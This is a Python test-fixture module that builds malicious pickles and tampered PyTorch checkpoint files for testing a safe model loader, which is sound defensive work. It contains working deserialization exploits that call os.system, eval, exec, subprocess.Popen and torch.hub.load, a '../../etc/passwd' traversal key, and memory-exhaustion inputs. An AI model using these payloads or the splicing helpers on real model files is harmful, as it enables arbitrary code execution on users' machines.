"""Hostile pickles and torch containers built at test time (no writer makes these on purpose).

Pickles are assembled opcode by opcode (or by Python's own ``pickle`` for objects whose
``__reduce__`` names a dangerous callable); containers reuse REAL torch fixtures: a zip written by
``torch.save`` with its ``data.pkl`` replaced, or a legacy file's real header pickles followed by a
hostile object pickle. Every command payload runs ``touch CANARY`` in the current directory.
"""

from __future__ import annotations

import functools
import os
import pickle
import pickletools
import struct
import subprocess
import zipfile
from dataclasses import dataclass
from pathlib import Path

CANARY = "CANARY"
COMMAND = f"touch {CANARY}"


@dataclass(frozen=True)
class G:
    """A GLOBAL opcode."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """``func(*args)`` as REDUCE."""

    func: object
    args: tuple


@dataclass(frozen=True)
class Pid:
    """A persistent id (BINPERSID)."""

    value: object


def assemble(obj: object) -> bytes:
    """A protocol-2 pickle of ``obj`` built from G / Call / Pid and plain data, without memo."""
    return b"\x80\x02" + _ops(obj) + b"."


def _ops(obj: object) -> bytes:
    if isinstance(obj, G):
        return b"c" + obj.module.encode() + b"\n" + obj.name.encode() + b"\n"
    if isinstance(obj, Call):
        return _ops(obj.func) + _ops(obj.args) + b"R"
    if isinstance(obj, Pid):
        return _ops(obj.value) + b"Q"
    if obj is None:
        return b"N"
    if isinstance(obj, bool):
        return b"\x88" if obj else b"\x89"
    if isinstance(obj, int):
        data = obj.to_bytes((obj.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(data)]) + data
    if isinstance(obj, float):
        return b"G" + struct.pack(">d", obj)
    if isinstance(obj, str):
        data = obj.encode()
        return b"X" + struct.pack("<I", len(data)) + data
    if isinstance(obj, bytes):
        return _ops(Call(G("_codecs", "encode"), (obj.decode("latin-1"), "latin1")))
    if isinstance(obj, tuple):
        return b"(" + b"".join(map(_ops, obj)) + b"t"
    if isinstance(obj, list):
        return b"]" + (b"(" + b"".join(map(_ops, obj)) + b"e" if obj else b"")
    if isinstance(obj, dict):
        return b"}" + (b"(" + b"".join(_ops(k) + _ops(v) for k, v in obj.items()) + b"u" if obj else b"")
    raise TypeError(type(obj))


class _Reduces:
    """Pickles as ``func(*args)`` through Python's own pickler (so GLOBAL/STACK_GLOBAL are real)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def tensor(key: str = "0", numel: int = 4, size=(2, 2), stride=(2, 1), offset: int = 0,
           storage: G = G("torch", "FloatStorage"), legacy: bool = False, view: tuple | None = None) -> Call:
    """A torch-style ``_rebuild_tensor_v2`` call whose storage is persistent id ``key``
    (legacy files add a sixth item, the storage view)."""
    pid = Pid(("storage", storage, key, "cpu", numel) + ((view,) if legacy else ()))
    return Call(G("torch._utils", "_rebuild_tensor_v2"),
                (pid, offset, tuple(size), tuple(stride), False, Call(G("collections", "OrderedDict"), ())))


#: name -> object pickle. Each must be refused (or, for "nested_*", loaded without running code).
PAYLOADS: dict[str, bytes] = {
    "os_system_reduce": pickle.dumps(_Reduces(os.system, COMMAND), protocol=2),
    "os_system_protocol0": pickle.dumps(_Reduces(os.system, COMMAND), protocol=0),
    "stack_global_protocol4": pickle.dumps(_Reduces(os.system, COMMAND), protocol=4),
    "stack_global_protocol5": pickle.dumps(_Reduces(os.system, COMMAND), protocol=5),
    "posix_system": assemble(Call(G("posix", "system"), (COMMAND,))),
    "builtins_eval": assemble(Call(G("builtins", "eval"), (f"__import__('os').system('{COMMAND}')",))),
    "builtins_exec_py2_name": assemble(Call(G("__builtin__", "exec"), (f"import os; os.system('{COMMAND}')",))),
    "subprocess_popen": pickle.dumps(_Reduces(subprocess.Popen, ["touch", CANARY]), protocol=2),
    "getattr_chain": assemble(Call(Call(G("builtins", "getattr"), (Call(G("builtins", "__import__"), ("os",)), "system")),
                                   (COMMAND,))),
    "functools_partial": pickle.dumps(_Reduces(functools.partial(os.system, COMMAND)), protocol=2),
    "operator_methodcaller": assemble(Call(Call(G("operator", "methodcaller"), ("system", COMMAND)),
                                           (Call(G("importlib", "import_module"), ("os",)),))),
    "runpy_run_code": assemble(Call(G("runpy", "_run_code"), (f"import os; os.system('{COMMAND}')", {}))),
    "torch_load_nested": assemble(Call(G("torch.serialization", "load"), ("other.pt",))),
    "torch_hub_load": assemble(Call(G("torch.hub", "load"), ("evil/repo", "model"))),
    "numpy_load": assemble(Call(G("numpy", "load"), ("x.npy", None, True))),
    "inst_opcode": f"(S'{COMMAND}'\nios\nsystem\n.".encode(),
    "obj_opcode": f"(cos\nsystem\nS'{COMMAND}'\no.".encode(),
    "global_module_with_space": f"c os\nsystem\n(S'{COMMAND}'\ntR.".encode(),
    "global_module_with_nul": f"cos\x00\nsystem\n(S'{COMMAND}'\ntR.".encode(),
    "global_relative_module": f"c..os\nsystem\n(S'{COMMAND}'\ntR.".encode(),
    "global_name_attribute_chain": assemble(Call(G("builtins", "getattr.__self__"), ())),
    "copyreg_extension": b"\x80\x02\x82\x01)R.",
    "reduce_on_placeholder_instance": assemble(Call(Call(G("mypackage.models", "Net"), ()), (COMMAND,))),
    "reduce_on_string": b"\x80\x02X\x06\x00\x00\x00systemX\x01\x00\x00\x00x\x85R.",
    "build_on_list": b"\x80\x02]}b.",
    "memo_missing": b"\x80\x02h\x07.",
    "stack_underflow": b"\x80\x02R.",
    "mark_underflow": b"\x80\x02e.",
    "huge_frame": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.",
    "huge_binbytes": b"\x80\x03B\xff\xff\xff\x7fabc.",
    "out_of_band_buffer": b"\x80\x05\x97.",
    "deep_tuple_key": b"\x80\x02}" + b")" + b"\x85" * 200_000 + b"Ns.",
    "bytearray_of_huge_int": assemble(Call(G("builtins", "bytearray"), (10**15,))),
    "codecs_zlib": assemble(Call(G("_codecs", "encode"), ("x" * 100, "zlib_codec"))),
    "persistent_id_string": assemble({"conv.weight": Pid("storage")}),
    "persistent_id_module_record": assemble({"conv.weight": Pid(("module", G("evil", "Net"), "f.py", "src"))}),
    "persistent_storage_type_not_a_class": assemble({"conv.weight": Pid(("storage", "FloatStorage", "0", "cpu", 4))}),
    "memo_cycle": b"\x80\x02}q\x00X\x01\x00\x00\x00ah\x00s.",
}


def _tensor_payloads(legacy: bool) -> dict[str, bytes]:
    """Malformed tensor records, in zip (5-item) or legacy (6-item) persistent-id form."""
    def one(**kw) -> bytes:
        return assemble({"conv.weight": tensor(legacy=legacy, **kw)})

    payloads = {
        "persistent_key_traversal": one(key="../../etc/passwd"),
        "persistent_dangerous_storage_type": one(storage=G("os", "system")),
        "huge_declared_numel": one(numel=10**12, size=(1000, 3, 5, 5), stride=(75, 25, 5, 1)),
        "huge_declared_shape": one(numel=10**15, size=(10**6, 10**6, 3, 3), stride=(9 * 10**6, 9, 3, 1)),
        "negative_stride": one(size=(2, 2), stride=(-2, 1), offset=2),
        "view_past_storage_end": one(size=(2, 2), stride=(2, 1), offset=3),
    }
    if legacy:
        payloads["legacy_view_past_storage"] = one(view=("1", 3, 4))
    return payloads


PAYLOADS.update(_tensor_payloads(legacy=False))
#: The tensor payloads as a legacy file spells them (used in legacy containers instead).
LEGACY_PAYLOADS = {**PAYLOADS, **_tensor_payloads(legacy=True)}

#: Payloads whose file loads (or fails only for want of tensors) because nothing in them is code.
NESTED_PICKLE = "nested_pickle_in_bytes"


def nested_pickle_payload() -> bytes:
    """A real tensor beside bytes that hold a malicious pickle: the bytes must stay bytes."""
    return assemble({"conv.weight": tensor(), "payload": PAYLOADS["os_system_reduce"]})


def pickle_stops(data: bytes) -> list[int]:
    """Offsets just past each STOP of consecutive pickles (pickletools parses, never executes)."""
    import io

    stream, ends = io.BytesIO(data), []
    while stream.tell() < len(data):
        try:
            for op, _arg, _pos in pickletools.genops(stream):
                if op.name == "STOP":
                    break
        except ValueError:
            break
        ends.append(stream.tell())
    return ends


def torch_zip(real: Path, out: Path, data_pkl: bytes, extra: dict[str, bytes] | None = None) -> Path:
    """``real`` (a torch.save zip) with its data.pkl replaced and optional extra members."""
    with zipfile.ZipFile(real) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = data_pkl if info.filename.endswith("/data.pkl") else src.read(info)
            dst.writestr(info, data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return out


#: One legacy storage record: 4 elements (8-byte little-endian count), then 4 float32 values.
FOUR_FLOATS = (4).to_bytes(8, "little") + struct.pack("<4f", 1, 2, 3, 4)


def legacy_file(real: Path, out: Path, object_pickle: bytes, storage: bytes = FOUR_FLOATS) -> Path:
    """``real``'s three legacy header pickles, ``object_pickle``, the key list ["0"], ``storage``."""
    data = real.read_bytes()
    header_end = pickle_stops(data)[2]
    out.write_bytes(data[:header_end] + object_pickle + pickle.dumps(["0"], protocol=2) + storage)
    return out
